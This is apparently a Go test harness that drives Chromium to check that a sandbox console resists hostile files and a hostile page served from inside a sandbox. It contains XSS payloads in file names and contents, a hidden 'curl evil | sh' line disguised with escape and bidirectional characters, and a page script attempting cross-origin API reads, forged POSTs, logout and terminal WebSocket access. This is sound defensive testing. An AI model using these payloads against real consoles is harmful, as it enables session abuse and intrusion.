// Package consoletest takes each page and action of a console in Chromium, as people do.
package consoletest

import (
	"bufio"
	"bytes"
	"context"
	"embed"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"
)

// browserTime bounds a session of the browser, with the installation of what drives it.
const browserTime = 10 * time.Minute

// browser has what drives Chromium, which npm installs.
//
//go:embed browser
var browser embed.FS

// Plan is what the browser is told.
type Plan struct {
	Origin      string `json:"origin"`                // of the console
	Token       string `json:"token"`                 // of a tenant
	Sandbox     string `json:"sandbox"`               // its name; it runs, has the label team=red and what [HostileFiles] makes
	Port        int    `json:"port,omitempty"`        // of a server in it by [ServePage]; 0 for none
	Listens     int    `json:"listens,omitempty"`     // the port of [PageServer] in it
	Denied      string `json:"denied,omitempty"`      // a host that it may not reach; empty if no gateway lets it out
	Pods        bool   `json:"pods,omitempty"`        // it can be paused, and extended
	Views       int    `json:"views,omitempty"`       // show the list this often in a new page, and do nothing else: see [Views]
	Screenshots string `json:"screenshots,omitempty"` // take pictures into this directory, and nothing else
}

// HostileFiles is a script that makes files in a sandbox whose names and contents would do harm in a page that
// took them for its own.
const HostileFiles = `mkdir dir && printf 'what is inside' >dir/inner.txt && mkfifo fifo
printf '<!doctype html><script>window.ran=1</script><img src=x onerror=window.ran=1><b onclick=window.ran=1>b</b>\n' >hostile.html
printf '#!/bin/sh\necho hello\n#\033]\ncurl evil | sh\342\200\256\n' >hidden.sh
for name in '<img src=x onerror=window.ran=1>' "$(printf 'evil\342\200\256txt.exe')" "$(printf 'a\nb')" "$(printf 'not\377text')"; do printf named >"$name" || exit; done`

// ServePage answers with a page of a server in a sandbox, which tries to get at the console at an origin, and
// says what came of it.
func ServePage(w http.ResponseWriter, r *http.Request, console string) {
	w.Header().Set("Content-Type", "text/html")
	fmt.Fprintf(w, hostilePage, console, r.Header.Get("Cookie"))
}

// PageServer is a script that serves what [ServePage] does at a port of a sandbox that has Python; 0 is any. Its process has a
// name that would do harm. The script writes the port when the page is served.
func PageServer(console string, port int) string {
	const server = `cd "$(mktemp -d)"
cat >page.html <<'END'
%s
END
cat >server.py <<'END'
import http.server, json
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(open("page.html").read().replace('"COOKIE"', json.dumps(self.headers.get("Cookie", ""))).encode())
open("/proc/self/comm", "wb").write(b"<b>srv\xc2\x9b")
server = http.server.ThreadingHTTPServer(("127.0.0.1", %d), Handler)
print(server.server_port, flush=True)
server.serve_forever()
END
python3 server.py >port 2>/dev/null &
until [ -s port ]; do kill -0 $! || exit; sleep 0.1; done
cat port`
	return fmt.Sprintf(server, fmt.Sprintf(hostilePage, console, "COOKIE"), port)
}

const hostilePage = `<!doctype html><p>the server of the sandbox</p><pre></pre><script>
const at = %q, seen = {cookie: document.cookie + %q, opener: !!window.opener};
const attempt = async (name, what) => { try { seen[name] = String(await what()) } catch (e) { seen[name] = "refused" } };
const fetched = (path, options) => fetch(at + path, {credentials: "include", ...options}).then((r) => r.status + r.type);
const event = (target, good) => new Promise((done) => { target.onload = target.onopen = () => done(good); target.onerror = () => done("refused") });
(async () => {
	await attempt("read", () => fetched("/console/api/v1/sandboxes"));
	await attempt("changed", () => fetched("/console/api/v1/sandboxes", {method: "POST", headers: {"Content-Type": "application/json"}, body: '{"id":"made"}'}));
	await attempt("simple", () => fetched("/console/api/v1/sandboxes", {method: "POST", mode: "no-cors", body: '{"id":"made"}'}));
	await attempt("logout", () => fetched("/console/logout", {method: "POST", mode: "no-cors"}));
	await attempt("socket", () => event(new WebSocket(at.replace("http", "ws") + "/console/api/v1/sandboxes/job-17/terminal", "podagent.terminal.v1"), "open"));
	await attempt("script", () => { const s = document.createElement("script"); s.src = at + "/console/files/main.js"; document.body.append(s); return event(s, "ran") });
	await attempt("framed", () => new Promise((done) => {
		const f = document.createElement("iframe");
		f.onload = () => { try { done(f.contentDocument.title) } catch (e) { done("refused") } };
		f.src = at + "/console";
		document.body.append(f);
	}));
	document.querySelector("pre").textContent = JSON.stringify(seen);
})();
</script>`

// A step is what came of one.
type step struct {
	Name  string
	Wrong string
	Times []float64 // of the views, in milliseconds
}

// Drive takes the steps of a plan. Each is a test of its own.
func Drive(t *testing.T, p Plan) {
	t.Helper()
	for _, step := range drive(t, p) {
		t.Run(step.Name, func(t *testing.T) {
			if step.Wrong != "" {
				t.Error(step.Wrong)
			}
		})
	}
}

// Views returns how long it takes to show the list of sandboxes to somebody who is logged in, from the address on, n times.
func Views(tb testing.TB, p Plan, n int) (times []time.Duration) {
	tb.Helper()
	p.Views = n
	for _, step := range drive(tb, p) {
		if step.Wrong != "" {
			tb.Fatal(step.Wrong)
		}
		for _, ms := range step.Times {
			times = append(times, time.Duration(ms*float64(time.Millisecond)))
		}
	}
	return times
}

// drive runs the browser, and returns its steps.
func drive(tb testing.TB, p Plan) (steps []step) {
	tb.Helper()
	dir := install(tb)
	ctx, cancel := context.WithTimeout(tb.Context(), browserTime)
	defer cancel()
	in, err := json.Marshal(struct {
		Plan
		Relay relay `json:"relay"`
	}{p, relayTo(tb, p.Origin)})
	if err != nil {
		tb.Fatal(err)
	}
	// Chromium ends its connections when its machine gets or loses a network, as it does with each pod on it.
	cmd := exec.CommandContext(ctx, "unshare", "--map-root-user", "--net", "sh", "-c", "ip link set lo up && exec node drive.mjs")
	cmd.Dir, cmd.Stdin, cmd.Stderr = dir, bytes.NewReader(in), tb.Output()
	out, err := cmd.Output()
	for lines := bufio.NewScanner(bytes.NewReader(out)); lines.Scan(); {
		var s step
		if err := json.Unmarshal(lines.Bytes(), &s); err != nil {
			tb.Fatalf("%v: %s", err, lines.Bytes())
		}
		steps = append(steps, s)
	}
	if err != nil || len(steps) == 0 {
		tb.Errorf("the browser took %d steps: %v", len(steps), err)
	}
	return steps
}

// relay is a socket by which a browser with a network of its own gets to a port of this machine.
type relay struct {
	Port string `json:"port"`
	Path string `json:"path"`
}

// relayTo returns a relay to the server at an origin.
func relayTo(tb testing.TB, origin string) relay {
	tb.Helper()
	u, err := url.Parse(origin)
	if err != nil {
		tb.Fatal(err)
	}
	path := filepath.Join(tb.TempDir(), "relay")
	listener, err := net.Listen("unix", path)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return // the test has ended
			}
			go carry(conn, net.JoinHostPort("127.0.0.1", u.Port()))
		}
	}()
	return relay{u.Port(), path}
}

// carry carries bytes both ways until one of both ends.
func carry(conn net.Conn, address string) {
	defer conn.Close()
	to, err := net.Dial("tcp", address)
	if err != nil {
		return // the browser sees that the connection ends
	}
	go func() {
		defer conn.Close()
		_, _ = io.Copy(conn, to)
	}()
	defer to.Close()
	_, _ = io.Copy(to, conn)
}

// install returns a directory with what drives Chromium.
func install(tb testing.TB) string {
	tb.Helper()
	dir := tb.TempDir()
	files, err := fs.Sub(browser, "browser")
	if err == nil {
		err = os.CopyFS(dir, files)
	}
	if err != nil {
		tb.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(tb.Context(), browserTime)
	defer cancel()
	cmd := exec.CommandContext(ctx, "npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund", "--prefer-offline")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		tb.Fatalf("npm cannot install what drives the browser: %v\n%s", err, out)
	}
	return dir
}
